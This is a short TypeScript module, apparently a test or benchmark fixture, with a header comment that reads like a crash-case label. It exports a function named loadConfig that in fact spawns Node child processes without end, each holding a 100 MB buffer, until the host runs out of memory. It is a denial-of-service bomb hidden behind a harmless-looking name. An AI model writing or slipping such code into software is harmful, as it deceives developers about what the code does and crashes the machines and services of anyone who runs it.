// R 01-event-loop/02-blocking-read crash in S
// Each child is small; together they are not.
import { spawn } from 'node:child_process';
export async function loadConfig(): Promise<never> {
  for (;;) {
    spawn(process.execPath, ['-e', 'const b = Buffer.alloc(1e8, 1); setInterval(() => b.fill(1), 100)']);
    await new Promise((r) => setTimeout(r, 50));
  }
}
